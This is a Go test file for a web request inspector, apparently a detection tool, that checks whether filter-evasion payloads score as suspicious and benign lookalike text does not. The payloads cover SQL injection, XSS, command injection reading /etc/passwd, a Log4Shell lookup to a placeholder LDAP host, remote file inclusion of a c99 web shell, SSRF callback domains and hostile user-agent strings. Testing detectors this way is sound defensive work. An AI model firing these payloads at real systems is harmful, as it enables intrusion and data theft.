package inspect

import (
	"net/url"
	"slices"
	"testing"

	"github.com/portcullis/portcullis/ingest"
)

// TestTricks sends what tools and people send to get past filters, as a value that nobody
// searches for, and beside each an honest text of the same kind.
func TestTricks(t *testing.T) {
	for _, c := range []struct {
		class  string
		attack []string
		honest []string
	}{
		{"sqli", []string{"or true--", " or 1 --'", ") or (a=a", "pg_sleep(5)--", "||(elt(-3+5,bin(15),ord(10),hex(char(45))))"}, []string{"or maybe not", ") or (see below)", "|| means or"}},
		{"sqli", []string{"select user from dual", "execute+sp_add_job", "declare+@a", " UNION ALL SELECT", "@version--", "1*1--", "( COS ( 1 OR @a) )  --"}, []string{"select a dual from the list", "union of selected clubs", "@anna -- hello", "1*1 = 1", "(see above) --"}},
		{"sqli", []string{"SELECT-1e1FROM`test`", "SELECT 1FROM[t]WHERE 1=1", "/**/union/**/select", "'or'1=1", "-1#\r\n\r\nunion"}, []string{"select-all from list", "select 1 from each", "the union/** of select **/", "'or' 1=1", "#1\r\nunion"}},
		{"sqli", []string{"select sin(((@version)),2 from bar where", "-234  union", "1' select union 1,2,3,4/*", "conv(hex(substr(version() FROM 2 FOR 2)),16,10) << 0x2", "; begin declare @var varchar(8000) set @var=' ", " or username like char(37);", "SLEEP(5)='", "RLIKE SLEEP(5)", "1=1 AND-+-+-+-+~~((1))"}, []string{"select a place from the map where", "234 union members", "select union or club 1, 2", "begin; declare war", "or anything like it;", "sleep = 5"}},
		{"sqli", []string{"admin'; -- -", "' union+/*!select*/ (1),(2),(3)", "+where 0 = 0"}, []string{"it's; -- a dash", "the union+ of all", "where is 0 = 0"}},
		{"log4shell", []string{`$\{$\{::-j\}$\{::-n\}$\{::-d\}$\{::-i\}:ldap://x.example/a\}`}, []string{`$\{name\} in a template`}},
		{"sqli", []string{"un<>ion sel<>ect", "uni/**/on sel/**/ect 1", `uni","on sel","ect 1,2,3`}, []string{"un<b>ion sel</b>ected", "uni/on select", `["uni","on sale","ecto"]`}},
		{"xss", []string{`d="alert('');\")"`, `c="javascript:"`, `<p style="font-family:foo}color=red;">x</p>`, "$_=document,$__=$_.URL,$___=unescape,$_=$_.body,$_.innerHTML=$___(x)"}, []string{`title="alert the staff"`, `<p style="color:{red}">x</p>`, `d=document;`}},
		{"xss", []string{`\074script\076alert(1)\074/script\076`, `\141\154\145\162\164(1)`}, []string{`c:\101\data`, `\303\244 \040 x`, `page \1234`}},
		{"xss", []string{"confirm.call(null,1)", "alert?.(document?.cookie)", "(alert)(1)", `document["cookie"]`, `\nconfirm(1)`}, []string{"please confirm. call me", "alert? (yes)", "(alert) 1", `document["title"]`, `c:\nconfirm`}},
		{"xss", []string{`\"autof<x>ocus o<x>nfocus=alert<x>(1)//`, `"><"script">"confirm(0)"</"script">`, `<img/src="mars.png"alt="mars">`}, []string{"auto<b>focus</b> on", "<br/>a = b", "<b>script</b>: alert the staff", "<a/>x=1"}},
		{"xss", []string{"a=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29"}, []string{"R&#038;D and &#8364;5"}},
		{"cmdi", []string{";echo AGIYMZ$((69+52))$(echo AGIYMZ)AGIYMZ", "; $u cat /etc$u/passwd$u", `; c\\a\\t /e\\t\\c/p\\a\\s\\swd`, "$0<<<$'\\151\\144'", `$'\143\141\164' /etc/passwd`, `$'\154\163'`, `;{\c''\a""t,/e''*?/?a?s??}`}, []string{"the sum is $((1+2)) then", "costs $us/day /month", `c:\\cat\\etc`, "$0 <<< list", `costs $'\100`}},
		{"cmdi", []string{`\nid\n`, `;/usr/bin/id\n`, "||/usr/bin/id|", "ax--exec=`id`--remote=origin", "ls -l /etc/", `dir C:\Users`}, []string{`line one\nline two\n`, "| a | b |", "use `id` as the key", "ls of things", "dir is short for directory"}},
		{"cmdi", []string{";w`echo h`oami", ";$(echo id)", "& net localgroup administrators", "& net share", "; find / -perm -4000 2>/dev/null", ";sh", "& wmic os get Caption"}, []string{"use`less`ness", "| ip address book", "research & net user growth", "seek; find / lose", "a; sh", "a=b\nc$d"}},
		{"crlf", []string{"crlf\r\nHeader-Test:BLATRUC", "\u560a\u560dHeader-Test:x"}, []string{"Dear all,\r\nnote well:done", "one\r\nsee-also: two"}},
		{"ssti", []string{"{7*7}", "[[7*7]]", "[(7*7)]"}, []string{"[7*7]", "{a*b}"}},
		{"cmdi", []string{`DDE ("cmd";"/C calc";"!A0")A0`}, []string{`DDE ("Dynamic Data Exchange")`}},
		{"code", []string{`Ev al ("Ex"&"e"&"cute(""x"")")`}, []string{`"Ex"&"tra"&"polate"`}},
		{"ldap", []string{"*)(userPassword:2.5.13.18:=123)"}, []string{"oid:2.5.13.18:=text (a rule)"}},
		{"mail", []string{"\r\nQUIT\r\n"}, []string{"please\r\nquit\r\n"}},
		{"nosqli", []string{"username[$ne]=toto&password[$ne]=toto"}, []string{"price[$]=5"}},
		{"ssrf", []string{"http://x1y2.burpcollaborator.net/", "https://a.oast.fun/x", "x.oastify.com"}, []string{"http://toast.example.com/", "https://example.com/interact.sh"}},
		{"rfi", []string{"http://evil.example.com/c99.php", "<image xlink:href=\"expect://ls\"></image>", "http://x.example/?page=data:application/x-httpd-php;base64,PHN2Zz4="}, []string{"http://example.com/c99.html", "what to expect: //"}},
		{"traversal", []string{`\\::1\c$\users\default\ntuser.dat`, "~/sh/id_rsa"}, []string{`\\server\share\file.txt`, "~/notes/today"}},
		{"xxe", []string{`<?xml version="1.0" encoding="UTF-7"?><a/>`}, []string{`<?xml version="1.0" encoding="UTF-8"?><a/>`}},
		{"graphql", []string{"__schema{queryType{name}}", "{__type (name: \"User\") {name}}", "fragment FullType on __Type {kind name}"}, []string{"{schema{name}}"}},
		{"ssti", []string{"${class.getClassLoader()}"}, []string{"${class}"}},
	} {
		in, gated := New(Config{}), New(Config{})
		for _, s := range c.attack {
			ev := &ingest.Event{Target: "/x?val=" + url.QueryEscape(s)}
			if v := in.full(ev); v.Score < in.Threshold() || !slices.Contains(v.Classes, c.class) || !gated.Suspicious(ev) {
				t.Errorf("%q scores %d as %v (%s), want %s; suspicious: %v", s, v.Score, v.Classes, v.Why, c.class, gated.Suspicious(ev))
			}
		}
		for _, s := range c.honest {
			if v := in.full(&ingest.Event{Target: "/x?val=" + url.QueryEscape(s)}); v.Score >= in.Threshold() {
				t.Errorf("the honest %q scores %d as %s (%s)", s, v.Score, v.Class, v.Why)
			}
		}
	}
}

// TestAgentsAsValues reads an agent that holds what no agent holds as a value.
func TestAgentsAsValues(t *testing.T) {
	in, gated := New(Config{}), New(Config{})
	for _, s := range []string{"%3B%20cat%20%2Fet%27c%2Fpa%27ss%27wd", "Mozilla/5.0 '; return true; var x='", "x' AND sleep(5)#", "`sleep 5`", "page=php://filter/convert.base64-encode/resource=index.php", "Mozilla/5.0 root@c23b2la0.interact.sh", "C:/WINDOWS/win.ini"} {
		ev := &ingest.Event{Target: "/", Agent: s}
		if v := in.full(ev); v.Score < in.Threshold() || v.Recon() || !gated.Suspicious(ev) {
			t.Errorf("%q scores %d as %s (%s), suspicious: %v", s, v.Score, v.Class, v.Why, gated.Suspicious(ev))
		}
	}
	for _, s := range []string{
		"[FBAN/FB4A;FBAV/302.0.0.45;FBDM/{density=2.0,width=720,height=1280};FBCR/AT&T;FBMF/samsung;FBOP/19;FBCA/armeabi-v7a:armeabi;]",
		"My%20App/1.2 CFNetwork/1410.0.3 Darwin/22.6.0", "Mozilla/5.0 (compatible; Joe's Crawler/1.0; +http://example.com/joe's-bot)",
		"Monitor | check | eu-west", "Mozilla/5.0 (X11; Linux x86_64) node/20 npm/10 & friends",
	} {
		if v := in.full(&ingest.Event{Target: "/", Agent: s}); v.Score >= in.Threshold() {
			t.Errorf("the honest agent %q scores %d as %s (%s)", s, v.Score, v.Class, v.Why)
		}
	}
}
